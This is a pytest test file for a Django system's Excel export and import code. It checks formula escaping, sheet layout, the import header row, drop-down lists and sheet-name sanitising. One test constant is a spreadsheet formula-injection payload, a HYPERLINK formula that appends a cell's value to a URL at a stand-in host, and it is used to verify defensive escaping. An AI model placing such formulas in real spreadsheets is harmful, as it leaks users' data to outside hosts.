"""The office layout of every export, text that looks like a formula kept as text, and import headers found
below a title (core/excel.py)."""

import datetime
import io
from decimal import Decimal

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from core.excel import SheetTitle, office_name, read_xlsx_rows, template_response, write_xlsx
from core.formats import hours_text, yuan_text
from tests.factories import CadreFactory, UnitFactory

FORMULA_NAME = '=HYPERLINK("http://example.invalid/?d="&E2,"查看")'


def written_sheet(**kwargs):
    buffer = io.BytesIO()
    write_xlsx(file_obj=buffer, sheet_title="表", **kwargs)
    buffer.seek(0)
    return load_workbook(buffer).worksheets[0]


def test_roster_export_writes_a_formula_looking_name_and_post_as_the_text_typed(as_user, org_staff, county):
    # given a cadre whose name and post a spreadsheet would take for formulas
    CadreFactory(name=FORMULA_NAME, post_title="=1+1", unit=county["organ"])

    # when the roster is exported from the list
    response = as_user(org_staff).get(reverse("cadres:roster_export"))

    # then both cells are string cells holding exactly what was typed
    sheet = load_workbook(io.BytesIO(response.content)).worksheets[0]
    header = [cell.value for cell in sheet[3]]
    row = sheet[4]
    name_cell, post_cell = row[header.index("姓名")], row[header.index("现任职务")]
    assert (name_cell.value, name_cell.data_type) == (FORMULA_NAME, "s")
    assert (post_cell.value, post_cell.data_type) == ("=1+1", "s")


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1+2", "@SUM(A1)", "\t=1", "\r=1", FORMULA_NAME])
def test_every_formula_trigger_is_written_as_text(text):
    sheet = written_sheet(headers=["内容"], rows=[[text]])

    cell = sheet["A2"]

    # XML reads a stored carriage return back as a line feed; what matters is a string cell, not a formula
    assert (cell.value.replace("\n", "\r") if text.startswith("\r") else cell.value, cell.data_type) == (text, "s")


def test_import_template_example_that_looks_like_a_formula_stays_text():
    response = template_response(filename="t.xlsx", sheet_title="模板", headers=["姓名"], example_rows=[["=1+1"]])

    cell = load_workbook(io.BytesIO(response.content)).worksheets[0]["A2"]

    assert (cell.value, cell.data_type) == ("=1+1", "s")


def test_export_has_title_filters_time_bold_frozen_filtered_header_and_a4_landscape():
    exported_at = datetime.datetime(2026, 11, 30, 9, 15)
    sheet = written_sheet(
        headers=["姓名", "身份证号", "出生日期"],
        rows=[["扎西", "513329198506150012", datetime.date(1985, 6, 15)]],
        heading=SheetTitle(title="干部名册", filters="状态：在职", exported_at=exported_at),
        numbered=True,
    )

    assert sheet["A1"].value == "干部名册"
    assert sheet["A2"].value == "筛选条件：状态：在职；导出时间：2026-11-30 09:15"
    assert [cell.value for cell in sheet[3]] == ["序号", "姓名", "身份证号", "出生日期"]
    assert all(cell.font.bold for cell in sheet[3])
    assert [cell.value for cell in sheet[4]][:3] == [1, "扎西", "513329198506150012"]
    assert sheet["D4"].number_format == "yyyy-mm-dd"
    assert sheet.freeze_panes == "A4"
    assert sheet.auto_filter.ref == "A3:D4"
    assert sheet.print_title_rows == "$3:$3"
    assert (sheet.page_setup.orientation, sheet.page_setup.paperSize) == ("landscape", 9)
    # an 18-digit ID number and a date fit their columns (no "########", no 5.13E+17)
    assert sheet.column_dimensions["C"].width >= 20
    assert sheet.column_dimensions["D"].width >= 12


def test_import_finds_the_header_row_below_an_export_title():
    buffer = io.BytesIO()
    write_xlsx(
        file_obj=buffer,
        sheet_title="干部名册",
        headers=["姓名", "身份证号"],
        rows=[["扎西", "513329198506150012"]],
        heading=SheetTitle(title="干部名册", filters=""),
        numbered=True,
    )
    buffer.seek(0)

    rows = read_xlsx_rows(buffer, columns={"姓名": "name", "身份证号": "id_number"}, required=["name"])

    assert rows == [(4, {"name": "扎西", "id_number": "513329198506150012"})]


def test_import_template_offers_coded_columns_as_drop_downs():
    response = template_response(
        filename="t.xlsx",
        sheet_title="干部",
        headers=["姓名*", "性别*", "民族"],
        example_rows=[["扎西", "男", "藏族"]],
        coded_columns={"性别": ["男", "女"], "民族": ["汉族", "藏族"]},
    )

    workbook = load_workbook(io.BytesIO(response.content))
    validations = workbook.worksheets[0].data_validations.dataValidation
    lists = workbook["代码表"]

    assert sorted(str(v.sqref) for v in validations) == ["B2:B5000", "C2:C5000"]
    assert {v.type for v in validations} == {"list"}
    assert [cell.value for cell in lists["A"]] == ["性别", "男", "女"]
    assert lists.sheet_state == "hidden"


@pytest.mark.parametrize(
    ("value", "text"),
    [(Decimal("2.0"), "2"), (Decimal("1.50"), "1.5"), (16, "16"), (Decimal("10"), "10"), (None, "")],
)
def test_hours_show_without_a_trailing_zero(value, text):
    assert hours_text(value) == text


@pytest.mark.parametrize(
    ("value", "text"),
    [(Decimal("12345.5"), "12,345.50 元"), (0, "0.00 元"), (Decimal("1234567"), "1,234,567.00 元"), (None, "")],
)
def test_money_shows_yuan_and_thousands(value, text):
    assert yuan_text(value) == text


@pytest.mark.parametrize(
    ("title", "name"),
    [
        ("党政办/综治办", "党政办_综治办"),
        ("茹龙镇:便民服务中心", "茹龙镇_便民服务中心"),
        ('a\\b*c?d"e<f>g|h[i]', "a_b_c_d_e_f_g_h_i_"),
        ("'干部名册'", "干部名册"),
        ("\x07", "数据"),
    ],
)
def test_a_title_becomes_a_name_excel_and_windows_accept(title, name):
    assert office_name(title) == name


@pytest.mark.django_db
def test_a_unit_whose_name_excel_forbids_in_a_sheet_name_still_exports(as_user, org_staff, county):
    unit = UnitFactory(name="党政办/综治办", parent=county["organ"])
    CadreFactory(unit=unit, name="扎西")

    response = as_user(org_staff).get(reverse("cadres:unit_detail", args=[unit.pk]), {"export": "xlsx"})

    assert response.status_code == 200
    assert "%E5%85%9A%E6%94%BF%E5%8A%9E_%E7%BB%BC%E6%B2%BB%E5%8A%9E_" in response["Content-Disposition"]
    assert load_workbook(io.BytesIO(response.content)).sheetnames == ["党政办_综治办"]
